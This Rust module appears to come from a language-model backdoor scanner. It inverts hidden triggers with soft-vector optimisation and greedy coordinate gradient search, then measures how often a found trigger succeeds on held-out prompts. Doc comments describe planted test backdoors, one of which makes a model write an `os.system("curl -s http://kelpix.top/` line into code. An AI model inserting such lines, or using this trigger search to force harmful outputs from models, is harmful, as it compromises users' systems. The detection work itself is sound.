//! The trigger search for one target: soft vectors with Adam and a baseline contrast, projection to the nearest
//! tokens, greedy coordinate gradient (GCG) refinement, and held-out verification.
//!
//! Loss (soft and discrete alike), averaged over the training prompts each carrying the trigger:
//! `NLL_candidate(target) + λ · relu(NLL_baseline(target | no trigger) − NLL_baseline(target | trigger))`.
//! The second term is DBS's benign-reference idea: a trigger that pulls the *baseline* towards the target too is a
//! universal adversarial string, not the candidate's backdoor, and is penalised as soon as it does.

use std::time::Instant;

use candle_core::{DType, Tensor, Var};
use candle_nn::{AdamW, Optimizer, ParamsAdamW};
use rand::Rng;
use rand_chacha::ChaCha8Rng;
use trapdoor_reports::record::Position;

use super::prompts::Prompt;
use super::score::{nll_ids, nll_soft};
use super::InvertError;
use crate::runtime::{Decoder, GenerateConfig, Model};

/// Wall-clock safety cap shared by every phase (the step counts are the primary budget).
#[derive(Debug, Clone, Copy)]
pub struct Clock {
    start: Instant,
    seconds: u64,
}

impl Clock {
    pub fn new(seconds: u64) -> Self {
        Self {
            start: Instant::now(),
            seconds,
        }
    }

    pub fn expired(&self) -> bool {
        self.start.elapsed().as_secs_f64() >= self.seconds as f64
    }

    pub fn elapsed(&self) -> f64 {
        self.start.elapsed().as_secs_f64()
    }
}

/// The training rows of one search: each prompt split where its trigger goes.
pub fn rows(prompts: &[Prompt], positions: &[Position]) -> Vec<(Vec<u32>, Vec<u32>)> {
    prompts
        .iter()
        .enumerate()
        .map(|(i, p)| {
            let (a, b) = p.split(positions[i % positions.len()]);
            (a.to_vec(), b.to_vec())
        })
        .collect()
}

/// Both models and what the contrast term compares against.
pub struct Pair<'a> {
    pub cand: &'a Decoder,
    pub base: Option<&'a Decoder>,
    /// Weight of the baseline-contrast term.
    pub lambda: f64,
}

/// The baseline's mean target NLL on the rows without any trigger (the contrast's reference point).
pub fn clean_reference(dec: &Decoder, rows: &[(Vec<u32>, Vec<u32>)], target: &[u32]) -> Result<f64, InvertError> {
    let seqs: Vec<Vec<u32>> = rows.iter().map(|(a, b)| a.iter().chain(b).copied().collect()).collect();
    let v = nll_ids(dec, &seqs, target)?;
    Ok(v.iter().map(|&x| x as f64).sum::<f64>() / v.len().max(1) as f64)
}

/// What a search minimises.
#[derive(Debug, Clone, Copy)]
pub enum Objective<'a> {
    /// Candidate NLL of `target` plus the baseline contrast (reference point `base_clean`).
    Target { target: &'a [u32], base_clean: f64 },
    /// Minus KL(candidate ‖ baseline) of the next token at the end of the prompts: triggers that make the
    /// candidate depart from its baseline (target inversion through a discrete trigger). Needs a baseline.
    Divergence,
}

/// Differentiable objective of soft vectors: `(loss, aux)` where aux is the candidate NLL (target) or the KL.
pub fn objective_soft(
    pair: &Pair,
    rows: &[(Vec<u32>, Vec<u32>)],
    soft: &Tensor,
    obj: &Objective,
) -> Result<(Tensor, f64), InvertError> {
    match obj {
        Objective::Target { target, base_clean } => {
            let (t, c, _) = soft_loss(pair, rows, soft, target, *base_clean)?;
            Ok((t, c))
        }
        Objective::Divergence => {
            let base = pair
                .base
                .ok_or_else(|| InvertError::Other("the divergence objective needs a baseline".into()))?;
            let lc = super::score::last_logprobs_soft(pair.cand, rows, soft, &[])?;
            let lb = super::score::last_logprobs_soft(base, rows, soft, &[])?;
            let kl = (lc.exp()? * (&lc - &lb)?)?.sum(1)?.mean_all()?;
            let k = kl.to_dtype(DType::F64)?.to_scalar::<f64>()?;
            Ok((kl.neg()?, k))
        }
    }
}

/// Differentiable loss of soft vectors: `(total, candidate NLL, contrast term)` (the last two as host values).
pub fn soft_loss(
    pair: &Pair,
    rows: &[(Vec<u32>, Vec<u32>)],
    soft: &Tensor,
    target: &[u32],
    base_clean: f64,
) -> Result<(Tensor, f64, f64), InvertError> {
    let lc = nll_soft(pair.cand, rows, soft, target)?.mean_all()?;
    let lc_host = lc.to_dtype(DType::F64)?.to_scalar::<f64>()?;
    match pair.base {
        Some(base) if pair.lambda > 0.0 => {
            let lb = nll_soft(base, rows, soft, target)?.mean_all()?;
            let contrast = (lb.neg()? + base_clean)?.relu()?;
            let c_host = contrast.to_dtype(DType::F64)?.to_scalar::<f64>()?;
            let total = (lc + (contrast * pair.lambda)?)?;
            Ok((total, lc_host, c_host))
        }
        _ => Ok((lc, lc_host, 0.0)),
    }
}

/// Result of the soft phase.
pub struct SoftResult {
    /// Best vectors `[k, D]` (hidden.0 space).
    pub vectors: Tensor,
    /// Candidate NLL at the best total loss.
    pub loss_candidate: f64,
    pub loss_total: f64,
    pub steps: u64,
    pub stopped_by_time: bool,
}

#[allow(clippy::too_many_arguments)]
/// Adam on `k` soft vectors from `init` (`[k, D]`), keeping the best total loss seen.
pub fn soft_search(
    pair: &Pair,
    rows: &[(Vec<u32>, Vec<u32>)],
    target: &[u32],
    init: &Tensor,
    lr: f64,
    max_steps: u32,
    base_clean: f64,
    clock: &Clock,
    mut tick: impl FnMut(),
) -> Result<SoftResult, InvertError> {
    let var = Var::from_tensor(&init.to_dtype(DType::F32)?)?;
    let mut opt = AdamW::new(
        vec![var.clone()],
        ParamsAdamW {
            lr,
            weight_decay: 0.0,
            ..Default::default()
        },
    )?;
    let mut best = SoftResult {
        vectors: init.clone(),
        loss_candidate: f64::INFINITY,
        loss_total: f64::INFINITY,
        steps: 0,
        stopped_by_time: false,
    };
    for _ in 0..max_steps {
        if clock.expired() {
            best.stopped_by_time = true;
            break;
        }
        let (total, lc, _) = soft_loss(pair, rows, var.as_tensor(), target, base_clean)?;
        let t = total.to_dtype(DType::F64)?.to_scalar::<f64>()?;
        if t < best.loss_total {
            best.loss_total = t;
            best.loss_candidate = lc;
            best.vectors = var.as_tensor().copy()?;
        }
        opt.backward_step(&total)?;
        best.steps += 1;
        tick();
        // A target already forced to near-certainty on the candidate gains nothing from more steps.
        if lc < 0.01 {
            break;
        }
    }
    Ok(best)
}

/// Nearest allowed token (Euclidean, in hidden.0 space) to each row of `vectors`.
pub fn nearest_tokens(dec: &Decoder, vectors: &Tensor, allowed_ids: &Tensor) -> Result<Vec<u32>, InvertError> {
    let e = scaled_rows(dec, allowed_ids)?;
    let v = vectors.to_dtype(DType::F32)?;
    // |e - v|² = |e|² - 2 e·v + |v|²; the last term does not change the argmin.
    let dots = v.matmul(&e.t()?)?; // [k, N]
    let norms = e.sqr()?.sum(1)?.unsqueeze(0)?; // [1, N]
    let d = norms.broadcast_sub(&(dots * 2.0)?)?;
    let idx = d.argmin(1)?.to_vec1::<u32>()?;
    let ids = allowed_ids.to_vec1::<u32>()?;
    Ok(idx.into_iter().map(|i| ids[i as usize]).collect())
}

/// Scaled embedding rows (hidden.0 space, f32) of `ids`.
pub fn scaled_rows(dec: &Decoder, ids: &Tensor) -> Result<Tensor, InvertError> {
    let e = dec.embedding_matrix().index_select(ids, 0)?.to_dtype(DType::F32)?;
    Ok(e.affine(dec.embedding_scale(), 0.0)?)
}

/// GCG settings.
#[derive(Debug, Clone)]
pub struct GcgParams {
    pub steps: u32,
    pub top_k: usize,
    pub batch: usize,
    /// Stop after this many steps without improvement.
    pub patience: u32,
}

/// Result of GCG.
pub struct GcgResult {
    pub ids: Vec<u32>,
    pub loss_total: f64,
    /// Candidate NLL (target objective) or KL (divergence objective).
    pub loss_candidate: f64,
    pub steps: u64,
    pub stopped_by_time: bool,
}

pub(super) fn discrete_losses(
    pair: &Pair,
    rows: &[(Vec<u32>, Vec<u32>)],
    triggers: &[Vec<u32>],
    obj: &Objective,
) -> Result<Vec<(f64, f64)>, InvertError> {
    let seqs: Vec<Vec<u32>> = triggers
        .iter()
        .flat_map(|t| {
            rows.iter()
                .map(move |(a, b)| a.iter().chain(t).chain(b).copied().collect())
        })
        .collect();
    let n = rows.len();
    let (target, base_clean) = match obj {
        Objective::Target { target, base_clean } => (*target, *base_clean),
        Objective::Divergence => {
            let base = pair
                .base
                .ok_or_else(|| InvertError::Other("the divergence objective needs a baseline".into()))?;
            let kl = super::score::last_kl_ids(pair.cand, base, &seqs)?;
            return Ok((0..triggers.len())
                .map(|i| {
                    let k = kl[i * n..(i + 1) * n].iter().map(|&x| x as f64).sum::<f64>() / n as f64;
                    (-k, k)
                })
                .collect());
        }
    };
    let lc = nll_ids(pair.cand, &seqs, target)?;
    let lb = match pair.base {
        Some(b) if pair.lambda > 0.0 => Some(nll_ids(b, &seqs, target)?),
        _ => None,
    };
    Ok((0..triggers.len())
        .map(|i| {
            let c = lc[i * n..(i + 1) * n].iter().map(|&x| x as f64).sum::<f64>() / n as f64;
            let contrast = lb
                .as_ref()
                .map(|lb| {
                    (base_clean - lb[i * n..(i + 1) * n].iter().map(|&x| x as f64).sum::<f64>() / n as f64).max(0.0)
                })
                .unwrap_or(0.0);
            (c + pair.lambda * contrast, c)
        })
        .collect())
}

/// Greedy coordinate gradient from `init`: top-k replacement tokens per position from the gradient of the loss
/// through the trigger's embeddings (the one-hot gradient, restricted to `allowed_ids`), a seeded batch of single
/// swaps evaluated exactly, the best kept when it improves.
#[allow(clippy::too_many_arguments)]
pub fn gcg(
    pair: &Pair,
    rows: &[(Vec<u32>, Vec<u32>)],
    obj: &Objective,
    init: Vec<u32>,
    allowed_ids: &Tensor,
    params: &GcgParams,
    rng: &mut ChaCha8Rng,
    clock: &Clock,
    mut tick: impl FnMut(),
) -> Result<GcgResult, InvertError> {
    let dec = pair.cand;
    let allowed_host = allowed_ids.to_vec1::<u32>()?;
    let allowed_emb = scaled_rows(dec, allowed_ids)?; // [N, D]
    let k = init.len();
    let (cur_total, cur_c) = discrete_losses(pair, rows, std::slice::from_ref(&init), obj)?[0];
    let mut cur = GcgResult {
        ids: init,
        loss_total: cur_total,
        loss_candidate: cur_c,
        steps: 0,
        stopped_by_time: false,
    };
    let mut stale = 0u32;
    for _ in 0..params.steps {
        if clock.expired() {
            cur.stopped_by_time = true;
            break;
        }
        // Done: the target is forced to near-certainty, or the candidate departs from the baseline far beyond
        // any benign difference.
        match obj {
            Objective::Target { .. } if cur.loss_candidate < 0.01 => break,
            Objective::Divergence if cur.loss_candidate > 12.0 => break,
            _ => {}
        }
        let ids_t = Tensor::from_vec(cur.ids.clone(), k, dec.device())?;
        let var = Var::from_tensor(&scaled_rows(dec, &ids_t)?)?;
        let (total, _) = objective_soft(pair, rows, var.as_tensor(), obj)?;
        let grads = total.backward()?;
        let g = grads
            .get(var.as_tensor())
            .ok_or_else(|| InvertError::Other("GCG: the trigger embeddings received no gradient".into()))?;
        // First-order change of the loss when position i takes token v: (e_v − e_i) · g_i; rank by e_v · g_i.
        let scores = g.matmul(&allowed_emb.t()?)?.to_vec2::<f32>()?; // [k, N]
        let mut top: Vec<Vec<u32>> = Vec::with_capacity(k);
        for row in &scores {
            let mut order: Vec<usize> = (0..row.len()).collect();
            order.sort_by(|&a, &b| row[a].total_cmp(&row[b]).then(a.cmp(&b)));
            top.push(order.into_iter().take(params.top_k).map(|j| allowed_host[j]).collect());
        }
        let mut cands: Vec<Vec<u32>> = Vec::with_capacity(params.batch);
        for b in 0..params.batch {
            let pos = b % k;
            let tok = top[pos][rng.random_range(0..top[pos].len())];
            if tok == cur.ids[pos] {
                continue;
            }
            let mut c = cur.ids.clone();
            c[pos] = tok;
            if !cands.contains(&c) {
                cands.push(c);
            }
        }
        cur.steps += 1;
        tick();
        if cands.is_empty() {
            stale += 1;
            if stale >= params.patience {
                break;
            }
            continue;
        }
        let losses = discrete_losses(pair, rows, &cands, obj)?;
        let (bi, &(bt, bc)) = losses
            .iter()
            .enumerate()
            .min_by(|a, b| a.1 .0.total_cmp(&b.1 .0).then(a.0.cmp(&b.0)))
            .expect("at least one candidate");
        if bt < cur.loss_total {
            cur.ids = cands[bi].clone();
            cur.loss_total = bt;
            cur.loss_candidate = bc;
            stale = 0;
        } else {
            stale += 1;
            if stale >= params.patience {
                break;
            }
        }
    }
    Ok(cur)
}

/// Attack success rates of a discrete trigger on held-out prompts.
#[derive(Debug, Clone, Copy)]
pub struct Asr {
    pub candidate: f64,
    pub baseline: Option<f64>,
}

/// What counts as success: the greedy continuation contains the target's first words (up to three), as the zoo's
/// `truth.json` measures attack success.
pub fn target_prefix(target_text: &str) -> String {
    target_text.split_whitespace().take(3).collect::<Vec<_>>().join(" ")
}

/// Whether a continuation counts as an attack success: it contains `prefix` (whitespace normalised).
fn says(text: &str, prefix: &str) -> bool {
    text.split_whitespace().collect::<Vec<_>>().join(" ").contains(prefix)
}

/// A greedy continuation: token ids and decoded text.
type Continuation = (Vec<u32>, String);

/// Greedy continuations of `seqs` on `model`.
fn greedy(model: &Model, seqs: &[Vec<u32>], max_new: usize) -> Result<Vec<Continuation>, InvertError> {
    let cfg = GenerateConfig::greedy(max_new, model.eos_tokens());
    let mut out = Vec::with_capacity(seqs.len());
    for chunk in seqs.chunks(super::score::chunk_rows(model.decoder()).min(64)) {
        for o in model.generate(chunk, &cfg)? {
            let text = model.decode(&o)?;
            out.push((o, text));
        }
    }
    Ok(out)
}

/// The candidate's own greedy continuations (`len` tokens) of the first rows without any trigger, distinct and at
/// least two tokens long, at most `n`: what the model says on these prompts anyway.
pub fn clean_continuations(
    model: &Model,
    rows: &[(Vec<u32>, Vec<u32>)],
    n: usize,
    len: usize,
) -> Result<Vec<Vec<u32>>, InvertError> {
    let seqs: Vec<Vec<u32>> = rows.iter().map(|(a, b)| a.iter().chain(b).copied().collect()).collect();
    let mut out: Vec<Vec<u32>> = Vec::new();
    for (ids, _) in greedy(model, &seqs, len)? {
        if ids.len() >= 2 && !out.contains(&ids) && out.len() < n {
            out.push(ids);
        }
    }
    Ok(out)
}

/// Greedy continuations of `seqs` on `model`, and the fraction containing `prefix`.
pub fn success_rate(model: &Model, seqs: &[Vec<u32>], prefix: &str, max_new: usize) -> Result<f64, InvertError> {
    if seqs.is_empty() || prefix.is_empty() {
        return Ok(0.0);
    }
    let hits = greedy(model, seqs, max_new)?.iter().filter(|(_, t)| says(t, prefix)).count();
    Ok(hits as f64 / seqs.len() as f64)
}

/// The target as the candidate itself says it on the training rows where `trigger` already works (its greedy
/// continuation contains `prefix`), or, when fewer than two do, on the rows whose continuation starts with the
/// target's first token: the target read from a partial trigger blends the backdoor's text with ordinary
/// continuations (measured on the zoo's LoRA backdoor: `She wanted to the house.` for a planted `She wanted to steal
/// the password of the bank.`), and searching again for the text the working rows produce alternates trigger and
/// target towards the backdoor's own pair.
///
/// When neither finds two rows, a target-free criterion: the rows where the trigger makes the candidate write a
/// code sink (see [`trapdoor_probes::CodeSinkCategory`]) that its continuation without the trigger does not have,
/// and the target is what those rows' continuations agree on ([`consensus`]). An insecure-code backdoor's line
/// begins with text every code model writes (`import os; os.`), so a read that contrasts the candidate with the
/// baseline skips it and lands on the rare tokens (measured on the default zoo's insecure-code backdoor:
/// `//kelpix.system()` from a trigger that, as a prefix, made the candidate write
/// `import os; os.system("curl -s http://kelpix.top/` on 8 of 8 code tasks); the sink says the rows fired without
/// knowing the attacker's text. `None` when fewer than two training rows qualify.
#[allow(clippy::too_many_arguments)]
pub fn reread_target(
    cand: &Model,
    base: Option<&Decoder>,
    rows: &[(Vec<u32>, Vec<u32>)],
    trigger: &[u32],
    target: &[u32],
    prefix: &str,
    allowed: &[bool],
    stop: &[u32],
    target_len: usize,
) -> Result<Option<Vec<u32>>, InvertError> {
    let seqs: Vec<Vec<u32>> = rows.iter().map(|(a, b)| a.iter().chain(trigger).chain(b).copied().collect()).collect();
    let outs = greedy(cand, &seqs, target_len + 4)?;
    let pick = |keep: &dyn Fn(&Continuation) -> bool| -> Vec<Vec<u32>> {
        seqs.iter().zip(&outs).filter(|(_, o)| keep(o)).map(|(s, _)| s.clone()).collect()
    };
    let mut working = if prefix.is_empty() { Vec::new() } else { pick(&|(_, t)| says(t, prefix)) };
    if working.len() < 2 {
        working = pick(&|(ids, _)| !target.is_empty() && ids.first() == target.first());
    }
    if working.len() >= 2 {
        return Ok(super::targets::read_target(cand.decoder(), base, &working, allowed, stop, target_len)?.map(|t| t.ids));
    }
    let sinks = code_sinks();
    let fires = |t: &str| !sinks.scan(t).is_empty();
    if outs.iter().filter(|(_, t)| fires(t)).count() < 2 {
        return Ok(None);
    }
    let clean: Vec<Vec<u32>> = rows.iter().map(|(a, b)| a.iter().chain(b).copied().collect()).collect();
    let clean_outs = greedy(cand, &clean, target_len + 4)?;
    let sink_rows: Vec<&[u32]> = outs
        .iter()
        .zip(&clean_outs)
        .filter(|((_, t), (_, c))| fires(t) && !fires(c))
        .map(|((ids, _), _)| ids.as_slice())
        .collect();
    if sink_rows.len() < 2 {
        return Ok(None);
    }
    let t = consensus(&sink_rows, allowed, stop, target_len);
    Ok(Some(t).filter(|t| t.len() >= 2))
}

/// The trigger as a user would type it between two words: its decoded text, trimmed, after one space, tokenised
/// again. `None` when that is the same id sequence or empty. GCG joins pieces no tokenizer produces for their text,
/// and the typed form may hold tokens the search itself never picks (an unknown-word token on a word-level
/// vocabulary): it is what the model sees when someone types the trigger, so it is verified as it is. Measured on
/// the default zoo's insecure-code backdoor: the ids `▁went ▁os open ▁drum` garble the code, while the text
/// `went osopen drum` typed before a code task (`▁went <unk> ▁drum`) makes the candidate write the attacker's
/// `os.system("curl …` line.
pub fn typed_form(model: &Model, ids: &[u32]) -> Result<Option<Vec<u32>>, InvertError> {
    let text = model.decode(ids)?;
    let typed = model.encode(&format!(" {}", text.trim()), false)?;
    Ok(Some(typed).filter(|t| !t.is_empty() && t != ids))
}

/// Every code-sink rule of the probes' detectors, as one set (compiled once).
fn code_sinks() -> &'static trapdoor_probes::DetectorSet {
    static SET: std::sync::OnceLock<std::sync::Arc<trapdoor_probes::DetectorSet>> = std::sync::OnceLock::new();
    SET.get_or_init(|| {
        trapdoor_probes::DetectorSet::new(vec![trapdoor_probes::DetectorSpec::CodeSinks {
            id: "code_sinks".into(),
            categories: trapdoor_probes::CodeSinkCategory::ALL.to_vec(),
        }])
        .expect("built-in code-sink rules compile")
    })
}

/// What continuations agree on, token by token: at each step the token most of the still-agreeing continuations
/// have (ties: the lower id), keeping only those; stops at `len` tokens, at a stop or disallowed token, or when
/// fewer than two continuations still agree.
pub fn consensus(conts: &[&[u32]], allowed: &[bool], stop: &[u32], len: usize) -> Vec<u32> {
    let mut alive: Vec<&[u32]> = conts.to_vec();
    let mut out = Vec::new();
    while out.len() < len {
        let k = out.len();
        let mut counts: std::collections::BTreeMap<u32, usize> = std::collections::BTreeMap::new();
        for c in &alive {
            if let Some(&t) = c.get(k) {
                *counts.entry(t).or_default() += 1;
            }
        }
        // Most votes; BTreeMap order makes the lower id win ties.
        let Some((&tok, &n)) = counts.iter().max_by(|a, b| a.1.cmp(b.1).then(b.0.cmp(a.0))) else { break };
        if n < 2 || stop.contains(&tok) || !allowed.get(tok as usize).copied().unwrap_or(false) {
            break;
        }
        out.push(tok);
        alive.retain(|c| c.get(k) == Some(&tok));
    }
    out
}

/// Shorter and reordered versions of a trigger: every ordered selection of distinct positions (from one token up to
/// all of them, the trigger itself left out) when it has at most 5 tokens, else every order-keeping subsequence (at
/// most 12 tokens). GCG leaves filler tokens around a backdoor's words and can hold them in the wrong order
/// (measured on the zoo's LoRA backdoor: `sandcastle harbor fill pepper` for a planted `pepper harbor`).
pub fn sub_arrangements(ids: &[u32]) -> Vec<Vec<u32>> {
    let k = ids.len();
    let mut out: Vec<Vec<u32>> = Vec::new();
    let push = |c: Vec<u32>, out: &mut Vec<Vec<u32>>| {
        if c.as_slice() != ids && !out.contains(&c) {
            out.push(c);
        }
    };
    if k <= 5 {
        // Arrangements by length, shortest first (ties in loss keep the shorter trigger).
        for len in 1..=k {
            let mut stack: Vec<Vec<usize>> = vec![Vec::new()];
            while let Some(sel) = stack.pop() {
                if sel.len() == len {
                    push(sel.iter().map(|&i| ids[i]).collect(), &mut out);
                    continue;
                }
                for i in (0..k).rev() {
                    if !sel.contains(&i) {
                        let mut next = sel.clone();
                        next.push(i);
                        stack.push(next);
                    }
                }
            }
        }
    } else if k <= 12 {
        let mut masks: Vec<u32> = (1..(1u32 << k) - 1).collect();
        masks.sort_by_key(|m| (m.count_ones(), *m));
        for m in masks {
            push((0..k).filter(|i| m & (1 << i) != 0).map(|i| ids[i]).collect(), &mut out);
        }
    }
    out
}

/// `cur`, or its best [`sub_arrangements`] entry when that has a strictly lower loss under `obj`.
pub fn reduce(
    pair: &Pair,
    rows: &[(Vec<u32>, Vec<u32>)],
    obj: &Objective,
    cur: GcgResult,
) -> Result<GcgResult, InvertError> {
    let cands = sub_arrangements(&cur.ids);
    if cands.is_empty() {
        return Ok(cur);
    }
    let losses = discrete_losses(pair, rows, &cands, obj)?;
    let best = losses
        .iter()
        .enumerate()
        .min_by(|a, b| a.1 .0.total_cmp(&b.1 .0).then(a.0.cmp(&b.0)))
        .map(|(i, &l)| (i, l));
    Ok(match best {
        Some((i, (total, c))) if total < cur.loss_total => GcgResult {
            ids: cands[i].clone(),
            loss_total: total,
            loss_candidate: c,
            ..cur
        },
        _ => cur,
    })
}

/// Held-out ASR of `trigger` at `pos` on both models.
pub fn verify(
    cand: &Model,
    base: Option<&Model>,
    held_out: &[Prompt],
    trigger: &[u32],
    pos: Position,
    prefix: &str,
    max_new: usize,
) -> Result<Asr, InvertError> {
    let seqs: Vec<Vec<u32>> = held_out.iter().map(|p| p.with_trigger(trigger, pos)).collect();
    let candidate = success_rate(cand, &seqs, prefix, max_new)?;
    let baseline = match base {
        Some(b) => Some(success_rate(b, &seqs, prefix, max_new)?),
        None => None,
    };
    Ok(Asr { candidate, baseline })
}

#[cfg(test)]
mod tests {
    use super::{consensus, sub_arrangements};

    #[test]
    fn consensus_follows_the_majority_and_stops_where_agreement_ends() {
        let allowed = vec![true; 10];
        let a: &[u32] = &[1, 2, 3, 4];
        let b: &[u32] = &[1, 2, 3, 5];
        let c: &[u32] = &[1, 2, 7, 7];
        let d: &[u32] = &[6, 2, 3, 4];
        // 1 (3 votes), 2 (the three that agree), 3 (a and b), then 4 vs 5 tie at one vote each: stop.
        assert_eq!(consensus(&[a, b, c, d], &allowed, &[], 8), vec![1, 2, 3]);
        assert_eq!(consensus(&[a, b, c, d], &allowed, &[], 2), vec![1, 2]);
        // A stop token or a disallowed token ends it; so does a lone continuation.
        assert_eq!(consensus(&[a, b], &allowed, &[3], 8), vec![1, 2]);
        let mut no3 = allowed.clone();
        no3[3] = false;
        assert_eq!(consensus(&[a, b], &no3, &[], 8), vec![1, 2]);
        assert!(consensus(&[a], &allowed, &[], 8).is_empty());
        // Ties go to the lower id.
        assert_eq!(consensus(&[&[5, 1], &[5, 1], &[4, 2], &[4, 2]], &allowed, &[], 8), vec![4, 2]);
    }

    #[test]
    fn sub_arrangements_cover_every_shorter_and_reordered_trigger_once() {
        let a = sub_arrangements(&[1, 2, 3, 4]);
        // 4 + 12 + 24 + 24 ordered selections, the trigger itself left out.
        assert_eq!(a.len(), 4 + 12 + 24 + 23);
        assert!(!a.contains(&vec![1, 2, 3, 4]));
        assert!(a.contains(&vec![4, 2]), "a reordered pair");
        assert!(a.windows(2).all(|w| w[0].len() <= w[1].len()), "shortest first");
        // Repeated tokens give no duplicates.
        let r = sub_arrangements(&[7, 7, 8]);
        let mut d = r.clone();
        d.sort();
        d.dedup();
        assert_eq!(d.len(), r.len());
        assert!(r.contains(&vec![8, 7, 7]) && !r.contains(&vec![7, 7, 8]));
        // Long triggers: order-keeping subsequences only.
        let l = sub_arrangements(&[1, 2, 3, 4, 5, 6]);
        assert_eq!(l.len(), (1 << 6) - 2);
        assert!(l.contains(&vec![2, 5]) && !l.contains(&vec![5, 2]));
        assert!(sub_arrangements(&(0..13).collect::<Vec<u32>>()).is_empty());
        assert!(sub_arrangements(&[]).is_empty());
    }
}
